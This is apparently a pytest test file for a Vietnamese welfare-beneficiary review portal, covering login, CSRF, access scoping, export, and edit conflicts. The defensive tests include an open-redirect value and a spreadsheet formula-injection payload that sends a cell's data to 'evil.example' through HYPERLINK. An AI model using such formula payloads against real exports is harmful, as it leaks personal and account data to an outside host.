"""Views: login, scoping, door-to-door review (page, fragment, boosted), search, progress,
history, export, CSRF."""
import io
import re

import pytest
from openpyxl import load_workbook
from sqlalchemy import func, select

from portal.extensions import db
from portal.models import Beneficiary, Event, Review
from tests.conftest import csrf_token, login
from tests.factories import person, with_account

HX = {"HX-Request": "true"}
BOOSTED = {"HX-Request": "true", "HX-Boosted": "true"}


@pytest.fixture
def people(app):
    a = person(name="Nguyễn Văn An")
    b = person(name="Trần Thị Bích", sex="F", national_id="051155000111", household=a.household,
               village="Thôn An Thành")
    other = person(commune_code="21046", village="Thôn Mỹ Long", name="Lê Văn Cường",
                   national_id="051060222333")
    db.session.commit()
    return a, b, other


def review_data(client, b, **values):
    page = client.get(f"/households/{b.household_id}").get_data(as_text=True)
    version = re.search(rf'name="b{b.id}-version"[^>]*value="(\d+)"', page) or re.search(
        rf'value="(\d+)"[^>]*name="b{b.id}-version"', page)
    data = {"csrf_token": csrf_token(client, f"/households/{b.household_id}"),
            f"b{b.id}-version": version.group(1), f"b{b.id}-account_status": "has_account",
            f"b{b.id}-payment_method": "account", f"b{b.id}-bank_bin": "970405",
            f"b{b.id}-number": "3007 1715 16813", f"b{b.id}-recipient_type": "self"}
    data.update({f"b{b.id}-{k}": v for k, v in values.items()})
    return data


def test_login_page_and_wrong_password(client):
    assert client.get("/login").status_code == 200
    token = csrf_token(client)
    r = client.post("/login", data={"username": "commune", "password": "nope", "csrf_token": token})
    assert r.status_code == 422
    assert "Lỗi:" in r.get_data(as_text=True)
    assert "không đúng" in r.get_data(as_text=True)


@pytest.mark.parametrize("username, start", [("commune", "/reports/ranking"), ("police", "/police"),
                                             ("payer", "/payments"), ("district", "/overview")])
def test_login_goes_straight_to_the_start_page(app, username, start):
    """One redirect, not two: the commune officer starts on the monthly ranking (issue 4,
    item 8); "/" sends a logged-in user to the same page."""
    client = app.test_client()
    r = login(client, username)
    assert r.headers["Location"] == start
    r = client.get("/")
    assert r.status_code == 302 and r.headers["Location"] == start


def test_login_rejects_offsite_next(client):
    token = csrf_token(client)
    r = client.post("/login?next=//evil.example/x",
                    data={"username": "district", "password": "demo", "csrf_token": token})
    assert r.status_code == 303 and r.headers["Location"] == "/overview"


def test_login_rate_limited(app):
    app.config["LOGIN_RATE_LIMIT"] = app.config["LOGIN_IP_RATE_LIMIT"] = "3 per minute"
    client = app.test_client()
    token = csrf_token(client)
    codes = [client.post("/login", data={"username": "commune", "password": "x", "csrf_token": token}).status_code
             for _ in range(5)]
    assert codes[:3] == [422, 422, 422] and codes[-1] == 429


def test_pages_need_login(client, people):
    a, _, _ = people
    for url in ("/overview", f"/households/{a.household_id}", "/search?q=an", "/export"):
        r = client.get(url)
        assert r.status_code == 302 and "/login" in r.headers["Location"]


def test_csrf_required_on_post(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data={f"b{a.id}-account_status": "refuses"})
    assert r.status_code == 400
    assert "CSRF" in r.get_data(as_text=True)
    r = client.post(f"/beneficiaries/{a.id}/review", data={f"b{a.id}-account_status": "refuses"}, headers=HX)
    assert r.status_code == 400 and "<html" not in r.get_data(as_text=True)
    assert db.session.get(Beneficiary, a.id).account_status == "unknown"


def test_household_page_full_boosted_and_fragment(client, people):
    a, b, _ = people
    login(client, "commune")
    for headers in ({}, BOOSTED, HX):
        r = client.get(f"/households/{a.household_id}", headers=headers)
        html = r.get_data(as_text=True)
        assert r.status_code == 200 and "HX-Request" in r.headers["Vary"]
        # A household page pushed by htmx is always a full page.
        assert "<html" in html and "Nguyễn Văn An" in html and "Trần Thị Bích" in html
        assert len(re.findall(r"action=\"/beneficiaries/\d+/review\"", html)) == 2


def test_review_save_htmx_swaps_card_and_progress(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a), headers=HX)
    html = r.get_data(as_text=True)
    assert r.status_code == 200, html
    assert "<html" not in html
    assert f'id="b{a.id}"' in html and "Đã lưu" in html
    assert f'id="progress-{a.commune_id}"' in html and 'hx-swap-oob="true"' in html
    b = db.session.get(Beneficiary, a.id)
    assert b.account_status == "has_account" and b.account.number == "300717151 6813".replace(" ", "")
    assert b.reviewed_at is not None
    assert db.session.scalar(select(func.count(Review.id))) == 1
    fields = set(db.session.scalars(select(Event.field).where(Event.beneficiary_id == a.id)))
    assert {"account_status", "number", "bank_bin", "reviewed_at"} <= fields


def test_review_save_plain_post_redirects(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a))
    assert r.status_code == 303
    assert r.headers["Location"].endswith(f"/households/{a.household_id}#b{a.id}")
    page = client.get(r.headers["Location"]).get_data(as_text=True)
    assert "Đã lưu rà soát" in page


def test_a_version_that_is_not_a_number_is_a_conflict_not_an_error(client, people):
    """A hand-made POST with ``version=abc``: 409, the record unchanged (was a 500)."""
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a, version="abc"), headers=HX)
    assert r.status_code == 409
    assert db.session.get(Beneficiary, a.id).account_status == "unknown"


def test_review_invalid_gives_422_with_errors(client, people):
    a, _, _ = people
    login(client, "commune")
    data = review_data(client, a, number="", bank_bin="")
    r = client.post(f"/beneficiaries/{a.id}/review", data=data)
    html = r.get_data(as_text=True)
    assert r.status_code == 422 and "Lỗi:" in html and "Nhập số tài khoản" in html
    r = client.post(f"/beneficiaries/{a.id}/review", data=data, headers=HX)
    assert r.status_code == 422 and "<html" not in r.get_data(as_text=True)
    assert db.session.get(Beneficiary, a.id).account_status == "unknown"


def test_guardian_account_needs_holder(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review",
                    data=review_data(client, a, recipient_type="guardian", holder_name=""))
    assert r.status_code == 422 and "tên chủ tài khoản" in r.get_data(as_text=True)


def test_two_officers_conflict(client, app, people):
    a, _, _ = people
    login(client, "commune")
    first = review_data(client, a)
    second = dict(first)
    second[f"b{a.id}-account_status"] = "refuses"
    second[f"b{a.id}-refusal_reason"] = "distrust"  # required with «Từ chối» (services/outreach)
    second[f"b{a.id}-payment_method"] = "cash"
    assert client.post(f"/beneficiaries/{a.id}/review", data=first, headers=HX).status_code == 200
    r = client.post(f"/beneficiaries/{a.id}/review", data=second, headers=HX)
    html = r.get_data(as_text=True)
    assert r.status_code == 409
    assert "Người khác vừa lưu" in html and "has_account" in html and "refuses" in html
    assert db.session.get(Beneficiary, a.id).account_status == "has_account"
    # Submitting again from the conflict form (new version) is a knowing overwrite.
    version = re.search(rf'name="b{a.id}-version"[^>]*value="(\d+)"', html).group(1)
    second[f"b{a.id}-version"] = version
    assert client.post(f"/beneficiaries/{a.id}/review", data=second, headers=HX).status_code == 200
    assert db.session.get(Beneficiary, a.id).account_status == "refuses"


def test_group_and_split_household(client, people):
    a, b, _ = people
    c = person(name="Phạm Văn Dũng", national_id="051070444555")
    db.session.commit()
    login(client, "commune")
    token = csrf_token(client, f"/households/{a.household_id}")
    r = client.post(f"/households/{a.household_id}/members", data={"g-beneficiary_id": c.id, "csrf_token": token})
    assert r.status_code == 303
    assert db.session.get(Beneficiary, c.id).household_id == a.household_id
    r = client.post(f"/beneficiaries/{c.id}/split", data={"csrf_token": token})
    assert r.status_code == 303
    assert db.session.get(Beneficiary, c.id).household_id != a.household_id
    assert db.session.scalar(select(func.count(Event.id)).where(
        Event.beneficiary_id == c.id, Event.field == "household_id")) == 2


@pytest.mark.parametrize("q", ["nguyen van an", "NGUYEN VAN AN", "Nguyễn Văn An", "nguyên van", "123456"])
def test_search_without_diacritics_and_by_id(client, people, q):
    login(client, "commune")
    html = client.get("/search", query_string={"q": q}).get_data(as_text=True)
    assert "Nguyễn Văn An" in html
    assert "Lê Văn Cường" not in html


def test_search_fragment_and_boosted(client, people):
    login(client, "commune")
    frag = client.get("/search?q=bich", headers=HX).get_data(as_text=True)
    assert "<html" not in frag and "Trần Thị Bích" in frag
    full = client.get("/search?q=bich", headers=BOOSTED).get_data(as_text=True)
    assert "<html" in full and "Trần Thị Bích" in full
    restore = client.get("/search?q=bich", headers={**HX, "HX-History-Restore-Request": "true"})
    assert "<html" in restore.get_data(as_text=True)


@pytest.mark.parametrize("role", ["police", "payer"])
def test_only_the_registry_keepers_export_it(client, people, role):
    """The registry's workbook holds full ID and account numbers: the police and the post
    office have their own files and get 403, with no link to it."""
    login(client, role)
    assert client.get("/export?format=xlsx").status_code == 403
    assert client.get("/export").status_code == 403
    assert 'href="/export"' not in client.get("/search?q=an").get_data(as_text=True)


def test_ids_masked_in_lists(client, people):
    login(client, "commune")
    html = client.get("/search?q=an").get_data(as_text=True)
    assert "051050123456" not in html and "3456" in html


@pytest.mark.parametrize("url", [
    "/households/{h}", "/beneficiaries/{b}", "/communes/{c}", "/villages/{v}",
    "/export?area={c}&format=xlsx",
])
def test_commune_user_cannot_see_other_commune(client, people, url):
    _, _, other = people
    login(client, "commune")
    r = client.get(url.format(h=other.household_id, b=other.id, c=other.commune_id, v=other.village_id))
    assert r.status_code in (403, 404)


def test_commune_user_cannot_post_to_other_commune(client, people):
    a, _, other = people
    login(client, "commune")
    data = review_data(client, a)
    data = {k.replace(f"b{a.id}-", f"b{other.id}-"): v for k, v in data.items()}
    r = client.post(f"/beneficiaries/{other.id}/review", data=data, headers=HX)
    assert r.status_code == 404
    assert db.session.get(Beneficiary, other.id).account_status == "unknown"


def test_search_is_scoped(client, people):
    login(client, "commune")
    assert "Lê Văn Cường" not in client.get("/search?q=cuong").get_data(as_text=True)
    client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
    login(client, "district")
    assert "Lê Văn Cường" in client.get("/search?q=cuong").get_data(as_text=True)


def test_police_and_payer_see_but_cannot_review(client, people):
    a, _, _ = people
    login(client, "police")
    html = client.get(f"/households/{a.household_id}").get_data(as_text=True)
    assert "Nguyễn Văn An" in html and "/review" not in html
    r = client.post(f"/beneficiaries/{a.id}/review", data={"csrf_token": csrf_token(client, "/search")})
    assert r.status_code == 403


def test_overview_lists_every_commune_laggards_first(client, people):
    a, b, _ = people
    with_account(a)
    db.session.commit()
    login(client, "district")
    html = client.get("/overview").get_data(as_text=True)
    assert html.count('href="/communes/') == 22
    assert "Bình Chánh" in html and "Bình Thạnh" in html


def test_commune_page_progress_numbers(client, people):
    a, b, _ = people
    with_account(a)
    db.session.commit()
    login(client, "commune")
    html = client.get(f"/communes/{a.commune_id}").get_data(as_text=True)
    assert "BTXH · 2 người" in html
    assert "Chi trả qua tài khoản: <b>1/2</b>" in html
    assert "Thôn An Thành" in html


def test_beneficiary_page_shows_history(client, people):
    a, _, _ = people
    login(client, "commune")
    client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a))
    html = client.get(f"/beneficiaries/{a.id}").get_data(as_text=True)
    assert "Lịch sử thay đổi" in html and "Rà soát" in html and "commune" in html


def test_export_xlsx_is_scoped_and_typed(client, people):
    a, _, other = people
    with_account(a, number="0012345678")
    db.session.commit()
    login(client, "commune")
    r = client.get("/export?format=xlsx")
    assert r.status_code == 200 and r.mimetype.endswith("sheet")
    ws = load_workbook(io.BytesIO(r.data)).active
    rows = list(ws.iter_rows(values_only=True))
    header = rows[1]
    names = [row[0] for row in rows[2:]]
    assert "Lê Văn Cường" not in names and "Nguyễn Văn An" in names
    row = rows[2 + names.index("Nguyễn Văn An")]
    assert row[header.index("Số định danh cá nhân")] == "051050123456"
    assert row[header.index("Số tài khoản")] == "0012345678"
    assert row[header.index("Ngày sinh")].year == 1950


def test_admin_sets_targets(client):
    login(client, "admin")
    token = csrf_token(client, "/admin/targets")
    data = {"csrf_token": token, "BTXH__reviewed": 100, "NCC__reviewed": 100, "BTXH__cashless": 70,
            "NCC__cashless": 55, "BTXH__paid_into_account": 100, "NCC__paid_into_account": 100,
            "HTXH__reviewed": 100, "HTXH__cashless": 60, "HTXH__paid_into_account": 100}
    assert client.post("/admin/targets", data=data).status_code == 303
    assert 'value="70"' in client.get("/admin/targets").get_data(as_text=True)
    data["BTXH__cashless"] = 170
    r = client.post("/admin/targets", data=data)
    assert r.status_code == 422 and "Từ 0 đến 100 phần trăm" in r.get_data(as_text=True)


def test_non_admin_cannot_set_targets(client):
    login(client, "district")
    assert client.get("/admin/targets").status_code == 403


def test_assets_fingerprinted_and_immutable(client):
    login(client, "commune")
    html = client.get("/search").get_data(as_text=True)
    for url in re.findall(r'(?:src|href)="(/assets/[^"]+)"', html):
        r = client.get(url)
        assert r.status_code == 200
        assert "immutable" in r.headers["Cache-Control"] and "max-age=31536000" in r.headers["Cache-Control"]
        assert client.get(url.replace(".", ".0", 1)).status_code == 404
    assert re.search(r'/assets/htmx\.min\.[0-9a-f]{12}\.js', html)


def test_correction_recorded_in_history(client, people):
    a, _, _ = people
    login(client, "commune")
    page = client.get(f"/beneficiaries/{a.id}/edit").get_data(as_text=True)
    version = re.search(r'name="version"[^>]*value="(\d+)"', page).group(1)
    data = {"csrf_token": csrf_token(client, f"/beneficiaries/{a.id}/edit"), "version": version,
            "full_name": "nguyễn  văn ân", "sex": "M", "birth_year": "1950", "birth_date": "1950-03-04",
            "national_id": "051 050 123 456", "village": "Thôn Mới", "category": "", "monthly_amount": "720000",
            "phone": "", "note": ""}
    r = client.post(f"/beneficiaries/{a.id}/edit", data=data)
    assert r.status_code == 303
    b = db.session.get(Beneficiary, a.id)
    assert (b.full_name, b.monthly_amount, b.village.name) == ("Nguyễn Văn Ân", 720000, "Mới")
    events = {e.field: e for e in db.session.scalars(select(Event).where(Event.beneficiary_id == a.id))}
    assert events["monthly_amount"].source == "correction" and events["monthly_amount"].old_value == "540000"
    # The same form again: the version moved on, so it is a conflict, not an overwrite.
    data["monthly_amount"] = "900000"
    r = client.post(f"/beneficiaries/{a.id}/edit", data=data)
    assert r.status_code == 409 and "Người khác vừa sửa" in r.get_data(as_text=True)
    assert db.session.get(Beneficiary, a.id).monthly_amount == 720000
    data["national_id"] = "5.11E+10"
    r = client.post(f"/beneficiaries/{a.id}/edit", data=data)
    assert r.status_code == 422 and "12 chữ số" in r.get_data(as_text=True)


def test_only_commune_officers_correct(client, people):
    a, _, other = people
    login(client, "police")
    assert client.get(f"/beneficiaries/{a.id}/edit").status_code == 403
    client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
    login(client, "commune")
    assert client.get(f"/beneficiaries/{other.id}/edit").status_code == 404


@pytest.mark.parametrize("url", ["/overview", "/communes/{c}", "/villages/{v}", "/beneficiaries/{b}"])
def test_pages_are_full_for_any_htmx_request(client, people, url):
    a, _, _ = people
    login(client, "district")
    for headers in (HX, BOOSTED):
        r = client.get(url.format(c=a.commune_id, v=a.village_id, b=a.id), headers=headers)
        assert r.status_code == 200 and "<html" in r.get_data(as_text=True)


def test_export_never_writes_formulas(client, people):
    a, _, _ = people
    a.full_name = '=HYPERLINK("http://evil.example/?x="&E3,"Xem")'
    a.note = "@SUM(1,2)"
    with_account(a, number="=SUM(1,2)", holder="+3+4")
    db.session.commit()
    login(client, "commune")
    data = client.get("/export?format=xlsx").data
    import zipfile
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    ws = load_workbook(io.BytesIO(data)).active
    values = [c.value for row in ws.iter_rows() for c in row]
    assert a.full_name in values and "=SUM(1,2)" in values and "+3+4" in values


def test_logout_ends_the_session_cookie(fresh_app):
    app = fresh_app
    client = app.test_client()
    login(client, "commune")
    assert client.get("/search").status_code == 200
    cookie = client.get_cookie("session").value
    client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
    thief = app.test_client()
    thief.set_cookie("session", cookie)
    r = thief.get("/search")
    assert r.status_code == 302 and "/login" in r.headers["Location"]


def test_login_limit_counts_failures_only_and_per_name(app):
    app.config["LOGIN_RATE_LIMIT"] = "3 per minute"
    app.config["LOGIN_IP_RATE_LIMIT"] = "6 per minute"
    client = app.test_client()
    for _ in range(5):  # several officers of one office logging in: never limited
        login(client, "commune")
        client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
    token = csrf_token(client)
    codes = [client.post("/login", data={"username": "admin", "password": "x", "csrf_token": token}).status_code
             for _ in range(4)]
    assert codes == [422, 422, 422, 429]
    # Another name from the same office still logs in; the address limit is wider.
    login(client, "commune")


def test_session_end_during_htmx_save_keeps_the_form(client, people):
    a, _, _ = people
    login(client, "commune")
    data = review_data(client, a)
    client.post("/logout", data={"csrf_token": data["csrf_token"]})
    data["csrf_token"] = csrf_token(client)
    r = client.post(f"/beneficiaries/{a.id}/review", data=data, headers=HX)
    assert r.status_code == 401 and r.headers["HX-Retarget"] == "#alerts"
    assert "Đăng nhập lại" in r.get_data(as_text=True)
    # Without JavaScript: to the login page, then back to the page the form was on.
    r = client.post(f"/beneficiaries/{a.id}/review", data=data,
                    headers={"Referer": f"http://localhost/households/{a.household_id}"})
    assert r.status_code == 302 and f"next=/households/{a.household_id}" in r.headers["Location"]


@pytest.mark.parametrize("number, message", [
    ("ABC12345XYZ", "chỉ gồm chữ số"),
    ("9704050000000000", "số thẻ"),
    ("12345", "Độ dài số tài khoản"),
])
def test_review_refuses_implausible_account_numbers(client, people, number, message):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a, number=number))
    assert r.status_code == 422 and message in r.get_data(as_text=True)
    assert db.session.get(Beneficiary, a.id).account is None


def test_visit_date_is_the_review_date(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a, visited_on="2024-05-10"))
    assert r.status_code == 303
    assert db.session.get(Beneficiary, a.id).reviewed_at.date().isoformat() == "2024-05-10"
    b = people[1]
    r = client.post(f"/beneficiaries/{b.id}/review", data=review_data(client, b, visited_on="2099-01-01"))
    assert r.status_code == 422 and "tương lai" in r.get_data(as_text=True)


def correction(client, b, **values):
    page = client.get(f"/beneficiaries/{b.id}/edit").get_data(as_text=True)
    data = {"csrf_token": csrf_token(client, f"/beneficiaries/{b.id}/edit"),
            "version": re.search(r'name="version"[^>]*value="(\d+)"', page).group(1),
            "full_name": b.full_name, "sex": b.sex, "birth_year": str(b.birth_year),
            "birth_date": b.birth_date.isoformat() if b.birth_date else "", "national_id": b.national_id or "",
            "village": b.village.full_name, "category": "", "monthly_amount": "540000", "phone": "", "note": ""}
    data.update(values)
    return client.post(f"/beneficiaries/{b.id}/edit", data=data)


@pytest.mark.parametrize("values, message", [
    ({"national_id": "051150123456"}, "không khớp giới tính"),   # a woman's digit for a man
    ({"national_id": "051060123456"}, "không khớp giới tính"),   # born 1960, not 1950
    ({"national_id": "051050777777"}, "đã có ở một hồ sơ khác"),  # another commune's person
    ({"birth_date": "2099-01-01", "birth_year": "2099"}, "tương lai"),
])
def test_correction_rules(client, people, values, message):
    a, _, _ = people
    person(commune_code="21046", name="Võ Văn Khác", national_id="051050777777")
    db.session.commit()
    login(client, "commune")
    r = correction(client, a, **values)
    assert r.status_code == 422 and message in r.get_data(as_text=True)


def test_correcting_the_id_settles_its_findings(client, people):
    from portal.models import Finding
    a, _, _ = people
    a.national_id = None
    db.session.add(Finding(beneficiary_id=a.id, code="missing_id", severity="warning", message="x"))
    db.session.add(Finding(beneficiary_id=a.id, code="deceased_in_note", severity="warning", message="y"))
    db.session.commit()
    login(client, "commune")
    assert correction(client, a, national_id="051050999888").status_code == 303
    open_codes = {f.code for f in db.session.scalars(select(Finding).where(
        Finding.resolved_at.is_(None), Finding.source == "import"))}
    assert open_codes == {"deceased_in_note"}


def test_search_treats_wildcards_as_text(client, people):
    login(client, "commune")
    for q in ("%", "_", "%%%%"):
        html = client.get("/search", query_string={"q": q}).get_data(as_text=True)
        assert "Nguyễn Văn An" not in html


def test_production_needs_secret_key_from_environment(tmp_path, monkeypatch):
    from portal.config import secret_key
    (tmp_path / "secret_key").write_text("from-a-file")
    monkeypatch.delenv("SECRET_KEY", raising=False)
    monkeypatch.setenv("PORTAL_ENV", "production")
    with pytest.raises(RuntimeError):
        secret_key(tmp_path)
    monkeypatch.setenv("PORTAL_ENV", "development")
    assert secret_key(tmp_path) == "from-a-file"


def test_form_library_messages_are_vietnamese(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a, account_status="bogus",
                                                                     visited_on="31/02/2024"))
    html = r.get_data(as_text=True)
    assert r.status_code == 422 and "Lựa chọn không hợp lệ." in html and "Ngày không hợp lệ." in html
    assert "Not a valid" not in html


def test_own_account_must_bear_the_beneficiarys_name(client, people):
    a, _, _ = people
    login(client, "commune")
    r = client.post(f"/beneficiaries/{a.id}/review", data=review_data(client, a, holder_name="Người Khác"))
    assert r.status_code == 422 and "khác tên đối tượng" in r.get_data(as_text=True)


def test_review_without_the_version_is_refused(client, people):
    a, _, _ = people
    login(client, "commune")
    data = review_data(client, a)
    del data[f"b{a.id}-version"]
    r = client.post(f"/beneficiaries/{a.id}/review", data=data, headers=HX)
    assert r.status_code == 422 and "tải lại trang" in r.get_data(as_text=True)
    assert db.session.get(Beneficiary, a.id).account_status == "unknown"


def test_splitting_someone_alone_changes_nothing(client, people):
    _, _, other = people
    login(client, "district")
    r = client.post(f"/beneficiaries/{other.id}/split", data={"csrf_token": csrf_token(client, "/search")})
    assert r.status_code in (303, 403)
    client.post("/logout", data={"csrf_token": csrf_token(client, "/search")})
    c = person(name="Phạm Văn Dũng", national_id="051070444555")
    db.session.commit()
    login(client, "commune")
    before = c.household_id
    r = client.post(f"/beneficiaries/{c.id}/split", data={"csrf_token": csrf_token(client, "/search")})
    assert r.status_code == 303 and db.session.get(Beneficiary, c.id).household_id == before
    assert "đã ở một hộ riêng" in client.get(r.headers["Location"]).get_data(as_text=True)


def test_every_save_moves_the_version_once(client, people):
    a, _, _ = people
    login(client, "commune")
    for i, number in enumerate(("4300205123456", "4300205123457", "4300205123458")):
        data = review_data(client, a, number=number)
        assert data[f"b{a.id}-version"] == str(1 + i)
        assert client.post(f"/beneficiaries/{a.id}/review", data=data, headers=HX).status_code == 200
    stale = dict(data, **{f"b{a.id}-number": "4300205123459"})  # an account-only change, old version
    assert client.post(f"/beneficiaries/{a.id}/review", data=stale, headers=HX).status_code == 409
